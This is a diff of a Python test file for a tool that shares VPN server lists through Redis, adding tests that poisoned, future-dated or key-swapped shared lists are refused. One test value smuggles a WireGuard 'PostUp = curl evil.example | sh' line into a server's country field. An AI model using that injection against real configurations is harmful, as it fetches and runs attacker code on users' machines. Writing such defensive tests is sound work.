@@ -3,16 +3,22 @@
 from __future__ import annotations
 
 import asyncio
+import base64
 import gc
+import json
+import logging
+import os
 import signal
 import subprocess
+import sys
 import time
 import uuid
 
 import httpx
+import msgspec
 import pytest
 import redis
-from conftest import KEY, ROOT, Draco, demo_payload, need, upstream_env
+from conftest import KEY, ROOT, Draco, demo_payload, need, sloppy, upstream_env
 from fake_upstream import FakeUpstream, free_port, wait_for_port
 from hypothesis import example, given, settings
 from test_ratelimit import model, most_in_a_period, stepping_clock, traces
@@ -20,9 +26,10 @@ from test_resilience import Clock
 
 from draco.catalog.cache import Catalog
 from draco.catalog.dataset import make_dataset
-from draco.catalog.shared import SharedCatalog
+from draco.catalog.shared import SharedCatalog, SharedMeta
 from draco.catalog.snapshot import read_snapshot, snapshot_bytes
 from draco.exceptions import VPNAPIError
+from draco.models import Server
 from draco.providers import REGISTRY
 from draco.security.limiter import Limiter, MemoryStore
 from draco.security.redis_store import RedisStore
@@ -404,7 +411,7 @@ def test_an_adopted_renewal_rewrites_this_instances_snapshot(redis_server, tmp_p
                 await b.refresh("surfshark")
                 assert upstream.hits == 2  # a's full fetch and a's 304; b asked nothing
                 assert b.status["surfshark"].data.fetched_at == clock.now
-                assert read_snapshot(tmp_path / "b", "surfshark").fetched_at == clock.now
+                assert read_snapshot(tmp_path / "b", "surfshark").data.fetched_at == clock.now
                 assert b.status["surfshark"].outcomes == {
                     "shared": 1
                 }  # a renewal is not another list
@@ -534,7 +541,8 @@ def test_a_shared_list_older_than_this_instances_is_never_adopted(redis_server):
     async def scenario(catalog, other, upstream):
         mine = await catalog.get("surfshark")
         older = make_dataset("surfshark", mine.servers[:30], clock.now - 100)
-        await other.save("surfshark", snapshot_bytes(older), older.version, older.fetched_at)
+        meta = SharedMeta(older.version, older.fetched_at)
+        await other.save("surfshark", snapshot_bytes(older), meta)
         clock.now += 400
         upstream.set("refused")
         await catalog.refresh("surfshark")
@@ -542,3 +550,110 @@ def test_a_shared_list_older_than_this_instances_is_never_adopted(redis_server):
 
     mine, held = on_shared(redis_server, scenario, clock=clock)
     assert held is mine
+
+
+# --- a list shared through Redis is checked like a fetched one ----------------------------
+
+
+def _stored(servers, fetched_at: float) -> bytes:
+    return snapshot_bytes(make_dataset("surfshark", servers, fetched_at))
+
+
+@pytest.mark.parametrize("kind", ["PostUp in a country", "future fetched_at", "non-canonical key"])
+def test_a_poisoned_shared_list_is_refused_logged_and_the_upstream_used(redis_server, caplog, kind):
+    clock = Clock()
+
+    async def scenario(catalog, other, upstream):
+        servers = REGISTRY["surfshark"].parse(demo_payload("surfshark")).servers
+        first = {f: getattr(servers[0], f) for f in servers[0].__struct_fields__}
+        if kind == "PostUp in a country":
+            first["country"] = "Sweden\n[Interface]\nPostUp = curl evil.example | sh"
+        elif kind == "non-canonical key":
+            first["public_key"] = sloppy(first["public_key"])
+        servers[0] = Server(**first)
+        fetched_at = clock.now + 86400 if kind == "future fetched_at" else clock.now - 1
+        await other.save("surfshark", _stored(servers, fetched_at), SharedMeta("v1", fetched_at))
+        with caplog.at_level(logging.WARNING, "draco.catalog"):
+            data = await catalog.get("surfshark")
+        return data, upstream.hits, catalog.status["surfshark"].trust.source
+
+    data, hits, trust = on_shared(redis_server, scenario, clock=clock)
+    assert hits == 1  # the upstream was asked instead
+    assert trust == "first use"
+    assert all("\n" not in s.country for s in data.servers)
+    assert "shared" in caplog.text
+
+
+def test_a_shared_renewal_from_the_future_never_pins_the_list(redis_server):
+    """Another instance's record that the same list was fetched a year from now would keep
+    it fresh forever, for every instance: the renewal is ignored."""
+    clock = Clock()
+
+    async def scenario(catalog, other, upstream):
+        mine = await catalog.get("surfshark")
+        await other.renew("surfshark", clock.now + 365 * 86400)
+        clock.now += 400
+        await catalog.refresh("surfshark")
+        return mine, catalog.status["surfshark"].data, upstream.hits
+
+    mine, data, hits = on_shared(redis_server, scenario, clock=clock)
+    assert data.fetched_at <= mine.fetched_at + 400
+    assert hits == 2  # stale: the upstream was asked
+
+
+def test_a_mass_swap_shared_by_another_instance_is_held(redis_server):
+    clock = Clock()
+
+    async def scenario(catalog, other, upstream):
+        mine = await catalog.get("surfshark")
+        swapped = [msgspec.structs.replace(s, public_key=_other_key(s)) for s in mine.servers]
+        content = _stored(swapped, clock.now + 10)
+        await other.save("surfshark", content, SharedMeta("swapped", clock.now + 10))
+        clock.now += 400
+        upstream.set("refused")  # else its 304, confirming the list served, ends the hold
+        await catalog.refresh("surfshark")
+        status = catalog.status["surfshark"]
+        return mine, status.data, status.trust.hold
+
+    mine, data, hold = on_shared(redis_server, scenario, clock=clock)
+    assert {s.public_key for s in data.servers} == {s.public_key for s in mine.servers}
+    assert hold is not None
+
+
+def _other_key(server) -> str:
+    raw = bytearray(base64.b64decode(server.public_key))
+    raw[0] ^= 0xFF
+    return base64.b64encode(bytes(raw)).decode()
+
+
+def test_draco_hold_settles_a_hold_through_redis(redis_server):
+    """`draco hold list` reads what an instance published; `draco hold accept` leaves the
+    word in Redis, and the instance serves the held list."""
+    clock = Clock()
+
+    async def scenario(catalog, other, upstream):
+        mine = await catalog.get("surfshark")
+        clusters = json.loads(demo_payload("surfshark"))
+        for cluster in clusters:
+            raw = bytearray(base64.b64decode(cluster["pubKey"]))
+            raw[1] ^= 0xFF
+            cluster["pubKey"] = base64.b64encode(bytes(raw)).decode()
+        upstream.set("ok", body=json.dumps(clusters).encode())
+        clock.now += 400
+        assert await catalog.refresh("surfshark") == "held"
+        env = {**os.environ, "CATALOG_STORAGE": redis_server.url, "PYTHONPATH": str(ROOT)}
+        command = [sys.executable, "-m", "draco", "hold"]
+        listed = subprocess.run([*command, "list"], env=env, capture_output=True, text=True)
+        digest = catalog.status["surfshark"].trust.hold.digest
+        given = subprocess.run(
+            [*command, "accept", "surfshark", digest], env=env, capture_output=True, text=True
+        )
+        await catalog.apply_verdict("surfshark")
+        return mine, catalog.status["surfshark"].data, listed, given, digest
+
+    mine, data, listed, given, digest = on_shared(redis_server, scenario, clock=clock)
+    assert listed.returncode == 0, listed.stderr
+    assert f"surfshark {digest}: held since" in listed.stdout
+    assert given.returncode == 0, given.stderr
+    assert data is not mine
+    assert {s.public_key for s in data.servers}.isdisjoint(s.public_key for s in mine.servers)
